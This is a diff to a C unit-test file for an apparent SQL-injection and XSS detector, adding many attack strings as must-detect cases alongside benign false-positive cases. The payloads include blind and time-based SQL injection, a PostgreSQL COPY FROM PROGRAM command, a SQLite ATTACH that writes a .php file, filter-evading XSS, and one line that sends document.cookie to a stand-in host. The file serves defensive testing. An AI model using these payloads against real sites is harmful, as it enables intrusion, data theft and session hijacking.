@@ -88,6 +88,31 @@ static void test_sqli_table(void **st)
 		{"like tautology", "' or username like '%", Q, DP_SQLI},
 		{"versioned comment", "1 /*!50000union*/ /*!50000select*/ 1,2", Q, DP_SQLI},
 		{"into outfile", "1 union select 'x' into outfile '/tmp/x'", Q, DP_SQLI},
+		{"backtick context", "x`) AND 7705=7705 AND (`a`=`a", Q, DP_SQLI},
+		{"paren break balance", "2)) AND IF('a'='a',1,0) AND ((9617=9617", Q, DP_SQLI},
+		{"empty value paren break", ")))|| 5716=5716#", Q, DP_SQLI},
+		{"numeric make_set", "1 AND MAKE_SET(LENGTH(DATABASE())=10,4457)-- -", Q, DP_SQLI},
+		{"symbol booleans only", "1 && 4402=4402", Q, DP_SQLI},
+		{"rlike subquery", "2\" RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))", Q, DP_SQLI},
+		{"inline case", "(CASE WHEN (5059>5058) THEN 4014 ELSE NULL END)", Q, DP_SQLI},
+		{"inline select elt", "(SELECT CONCAT(0x71,(ELT(8732=8732,1)),0x71))", Q, DP_SQLI},
+		{"concat subquery", "'||(SELECT 1 FROM (SELECT(SLEEP(5)))a)||'", Q, DP_SQLI},
+		{"not between", "1) AND 9454 NOT BETWEEN 0 AND 9453 AND (1226=1226", Q, DP_SQLI},
+		{"latin1 nbsp", "1'%A0AND%A0SLEEP(5)%A0AND%A0'a'='a", Q, DP_SQLI},
+		{"mssql blank", "1%01AND%015=5", Q, DP_SQLI},
+		{"pg copy program", "1';COPY t FROM PROGRAM 'id'--", Q, DP_SQLI},
+		{"sqlite attach", "1;ATTACH DATABASE '/tmp/x.php' AS x--", Q, DP_SQLI},
+		{"mssql if waitfor", "1;IF(1=1) WAITFOR DELAY '0:0:5'--", Q, DP_SQLI},
+		{"order by subquery", "id desc,(select (case when (1=1) then 1 else 2 end))", Q, DP_SQLI},
+		{"procedure analyse", "1 LIMIT 1 PROCEDURE ANALYSE(1,1)", Q, DP_SQLI},
+		{"chained comparison", "admin'='admin", Q, DP_SQLI},
+		{"break probe", "7,)\"(.'.,(\"", Q, DP_SQLI},
+		{"regexp literals", "abc AND 1 REGEXP 1", Q, DP_SQLI},
+		{"number glued to union", "1e0UNION ALL SELECT NULL,version()-- -", Q, DP_SQLI},
+		{"oracle d literal", "-1.0DUNION SELECT NULL FROM DUAL--", Q, DP_SQLI},
+		{"asp percent letters", "1 %U%N%I%O%N %S%E%L%E%C%T 1,2,3-- -", Q, DP_SQLI},
+		{"floor rand error", "9 GROUP BY CONCAT(user(),FLOOR(RAND(0)*2))#", Q, DP_SQLI},
+		{"union paren select from", "1') LIMIT 1,1 UNION(SELECT username) FROM DUAL-- x", Q, DP_SQLI},
 		{"select a plan", "select a plan", Q, DP_NONE},
 		{"drop by", "drop by anytime; we're open", Q, DP_NONE},
 		{"union station", "Union Station, Chicago", Q, DP_NONE},
@@ -101,6 +126,27 @@ static void test_sqli_table(void **st)
 		{"sleep words", "I need sleep (8 hours)", Q, DP_NONE},
 		{"english union select", "the union select committee", Q, DP_NONE},
 		{"semicolon select", "options; select one", Q, DP_NONE},
+		{"numbered list", "1) and 2) are both fine", Q, DP_NONE},
+		{"smiley parens", "great)) and thanks", Q, DP_NONE},
+		{"spreadsheet if", "=IF(A1>B1, \"yes\", \"no\")", Q, DP_NONE},
+		{"case when prose", "in case when you arrive, then call", Q, DP_NONE},
+		{"select in parens", "(select one, two or three)", Q, DP_NONE},
+		{"copy prose", "copy this from the doc", Q, DP_NONE},
+		{"if prose", "if (you can) call me", Q, DP_NONE},
+		{"version note", "5.1 and 5.2 (beta) or later", Q, DP_NONE},
+		{"sleep prose", "sleep(8) hours a night", Q, DP_NONE},
+		{"lettered list compare", "a) or b=b", Q, DP_NONE},
+		{"units glued", "5in x 7in or larger; 3d printer and 4k tv", Q, DP_NONE},
+		{"list then aside", "red, (select one) or blue", Q, DP_NONE},
+		{"list then choose", "apples, (select 2)", Q, DP_NONE},
+		{"quoted equation", "He said 'a'='b' once", Q, DP_NONE},
+		{"quoted tuple", "x (\"a\", 'b')", Q, DP_NONE},
+		{"regexp prose", "a regexp b, or two", Q, DP_NONE},
+		{"percent words", "50%off %sale %now %only", Q, DP_NONE},
+		{"sleep spaced prose", "(9) sleep (9) or (2)", Q, DP_NONE},
+		{"jquery selector", "$('#menu').toggle()", Q, DP_NONE},
+		{"drop table joke", "\"; DROP TABLE\" is a famous joke", Q, DP_NONE},
+		{"backtick then hash", "`#include` and 'great'", Q, DP_NONE},
 	};
 	run_table(t, sizeof(t) / sizeof(t[0]));
 }
@@ -125,6 +171,41 @@ static void test_xss_table(void **st)
 		{"style expression", "<div style=\"width:expression(alert(1))\">", Q, DP_XSS},
 		{"meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=//x\">", Q, DP_XSS},
 		{"unknown tag handler", "<foo onpointerenter=alert(1)>", Q, DP_XSS},
+		{"details ontoggle", "<details open ontoggle=alert(1)>", Q, DP_XSS},
+		{"bait tag", "'';!--\"<XSS>=&{()}", Q, DP_XSS},
+		{"nested element name", "<scrscriptipt>confirm(1)</scrscriptipt>", Q, DP_XSS},
+		{"nul before handler", "<svg%00onload=confirm(1)>", Q, DP_XSS},
+		{"nul after unquoted value", "<img%00src=x%00onerror=confirm(1)>", Q, DP_XSS},
+		{"junk glued to tag name", "<svg};onload=confirm(1)>", Q, DP_XSS},
+		{"handler slash equals", "<img src='1' onerror/=confirm(0) />", Q, DP_XSS},
+		{"handler with junk", "<body onload!#$%&()*~+-_.,:;?@[/|]^`=alert(1)>", Q, DP_XSS},
+		{"handler after newline", "<svg\nonload=alert(1)", Q, DP_XSS},
+		{"no closing gt", "<img src=x onerror=alert(1)//", Q, DP_XSS},
+		{"slash in unquoted value", "<img src=x/onerror=alert(1)>", Q, DP_XSS},
+		{"unquoted attr break", "x onmouseover=alert(1) y=", Q, DP_XSS},
+		{"slash attr break", "/onfocus=confirm(1) autofocus", Q, DP_XSS},
+		{"entity tab in unquoted url", "<a href=jav&#x09;ascript:alert(1)>x</a>", Q, DP_XSS},
+		{"entities no semicolon", "<img src=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61(1)>", Q, DP_XSS},
+		{"comment in scheme", "<img src=\"javas<!-- -->cript:alert(1)\">", Q, DP_XSS},
+		{"css escapes", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>", Q, DP_XSS},
+		{"css comment in expression", "<img style=\"x:expr/**/ession(alert(1))\">", Q, DP_XSS},
+		{"css hex escapes", "<div style=\"background:\\75\\72\\6c(\\6a avascript:alert(1))\">", Q, DP_XSS},
+		{"style import http", "<style>@import'http://x.example/x.css';</style>", Q, DP_XSS},
+		{"style behavior element", "<style>*{behavior:url(x.htc)}</style>", Q, DP_XSS},
+		{"style typed script", "<style type=\"text/javascript\">alert(1)</style>", Q, DP_XSS},
+		{"meta link", "<meta http-equiv=\"link\" content=\"<//x.example/a.css>; rel=stylesheet\">", Q, DP_XSS},
+		{"js break find", "';[1].find(alert)//", Q, DP_XSS},
+		{"js break computed", "\"-top['al'+'ert'](1)-\"", Q, DP_XSS},
+		{"js break paren", "');this.src='//x.example/'+document.cookie;//", Q, DP_XSS},
+		{"template literal", "${alert(document.domain)}", Q, DP_XSS},
+		{"svg animate values", "<svg><animate attributeName=href values=javascript:alert(1) />", Q, DP_XSS},
+		{"jsfuck", "[][(![]%2B[])[%2B[]]%2B(![]%2B[])[!%2B[]%2B!%2B[]]%2B(![]%2B[])[%2B!%2B[]]%2B(!![]%2B[])[%2B[]]]", Q, DP_XSS},
+		{"bare dialog call", "alert(document.domain)", Q, DP_XSS},
+		{"bare call template", "prompt`1`;//", Q, DP_XSS},
+		{"numeric js context", "1;confirm(document.domain)//", Q, DP_XSS},
+		{"client template", "{{x.constructor.constructor('confirm(2)')()}}", Q, DP_XSS},
+		{"utf-7 markup", "%2BADw-img src=1 onerror=x%2BAD4-", Q, DP_XSS},
+		{"meta utf-7", "<meta http-equiv=content-type content=\"text/html;charset=utf-7\">", Q, DP_XSS},
 		{"less than three", "I <3 cats", Q, DP_NONE},
 		{"math", "3<5 and 7>2", Q, DP_NONE},
 		{"bold html", "<b>bold</b> and <i>it</i>", Q, DP_NONE},
@@ -133,6 +214,26 @@ static void test_xss_table(void **st)
 		{"quote on word", "\"online\" shopping", Q, DP_NONE},
 		{"arrow", "a -> b <- c", Q, DP_NONE},
 		{"javascript word", "learn javascript: the good parts", Q, DP_NONE},
+		{"javascript title", "javascript: the good parts, chapter 3", Q, DP_NONE},
+		{"svg as a word", "<svg> icons scale well", Q, DP_NONE},
+		{"feet and inches", "5' 10\" tall; print the form", Q, DP_NONE},
+		{"onclick prose", "set onclick handler in the options", Q, DP_NONE},
+		{"online param", "online=yes onsale=true", Q, DP_NONE},
+		{"template price", "${price} total", Q, DP_NONE},
+		{"code in backticks", "Use `eval()` sparingly", Q, DP_NONE},
+		{"quoted then confirm", "\"; confirm your email", Q, DP_NONE},
+		{"styled span", "<span style=\"color:red\">sale</span>", Q, DP_NONE},
+		{"jsx handler", "onClick={() => setOpen(true)}", Q, DP_NONE},
+		{"mustache name", "Dear {{ customer.first_name }},", Q, DP_NONE},
+		{"plus word", "C++ and +add-ons", Q, DP_NONE},
+		{"brackets prose", "[see (1)] [and (2)] [or (3)] !!! (yes) [ok] [a] [b] [c] [d]", Q, DP_NONE},
+		{"number then words", "3;print the page", Q, DP_NONE},
+		{"button label", "Confirm (2)", Q, DP_NONE},
+		{"inline svg icon", "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path d=\"M2 7l10 5\"/></svg>", Q, DP_NONE},
+		{"web font import", "<style>@import url('https://fonts.example/css?family=Roboto');</style>", Q, DP_NONE},
+		{"namespaced tag", "<b:online=1>yes</b:online>", Q, DP_NONE},
+		{"mathml formula", "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>", Q, DP_NONE},
+		{"empty alert", "alert() blocks the page", Q, DP_NONE},
 	};
 	run_table(t, sizeof(t) / sizeof(t[0]));
 }
@@ -562,6 +663,29 @@ static void test_payload_rates(void **st)
 	assert_int_equal(seen_groups, 5);
 }
 
+/* The tables tools/gen-sqli-xss.py writes from each attack's grammar
+ * (contexts x techniques x suffixes x obfuscations): generated, not tuned
+ * on, so the rate says how far the detector generalises. */
+static void test_generated_tables(void **st)
+{
+	(void)st;
+	static const struct {
+		const char *path;
+		enum dp_kind kind;
+		int min_permille;
+	} t[] = {
+		{"tests/data/gen-sqli.txt", DP_SQLI, 995},
+		{"tests/data/gen-xss.txt", DP_XSS, 995},
+	};
+	for (size_t g = 0; g < sizeof(t) / sizeof(t[0]); g++) {
+		struct rate r = {t[g].kind, 0, 0, 0, 0};
+		assert_true(for_lines(t[g].path, rate_line, &r) > 1000);
+		printf("  %-52s %4d/%-4d %5.1f%% as %s (need %.1f%%)\n", t[g].path, r.hit, r.total,
+		       100.0 * r.hit / r.total, dp_kind_names[r.kind], t[g].min_permille / 10.0);
+		assert_true(r.hit * 1000 >= t[g].min_permille * r.total);
+	}
+}
+
 struct fp {
 	int total, bad;
 };
@@ -571,11 +695,35 @@ static void benign_line(const char *l, size_t n, void *ctx)
 	struct fp *f = ctx;
 	struct dp_match m[DP__COUNT];
 	int k = dp_scan(l, n, DP_WHERE_QUERY, m, DP__COUNT);
+	char js[4 * 8192];
+	size_t w = 0;
+
 	f->total++;
 	if (k > 0) {
 		f->bad++;
 		printf("    false positive [%s %d: %s]: %s\n", dp_kind_names[m[0].kind], m[0].score,
 		       m[0].why, l);
+	}
+	/* and as a JSON string, as detect_quality sends it: no form
+	 * decoding there, so "2+2=4" keeps its plus */
+	w += (size_t)snprintf(js, sizeof(js), "{\"comment\":\"");
+	for (size_t i = 0; i < n && w + 16 < sizeof(js); i++) {
+		unsigned char c = (unsigned char)l[i];
+		if (c == '"' || c == '\\') {
+			js[w++] = '\\';
+			js[w++] = (char)c;
+		} else if (c < 0x20) {
+			w += (size_t)snprintf(js + w, 8, "\\u%04x", c);
+		} else {
+			js[w++] = (char)c;
+		}
+	}
+	w += (size_t)snprintf(js + w, sizeof(js) - w, "\"}");
+	k = dp_scan_json(js, w, m, DP__COUNT);
+	if (k > 0) {
+		f->bad++;
+		printf("    false positive in JSON [%s %d: %s]: %s\n", dp_kind_names[m[0].kind],
+		       m[0].score, m[0].why, l);
 	}
 }
 
@@ -606,6 +754,7 @@ int main(void)
 		cmocka_unit_test(test_robust_inputs),
 		cmocka_unit_test(test_repeat_scans_match_first),
 		cmocka_unit_test(test_payload_rates),
+		cmocka_unit_test(test_generated_tables),
 		cmocka_unit_test(test_benign_corpus),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
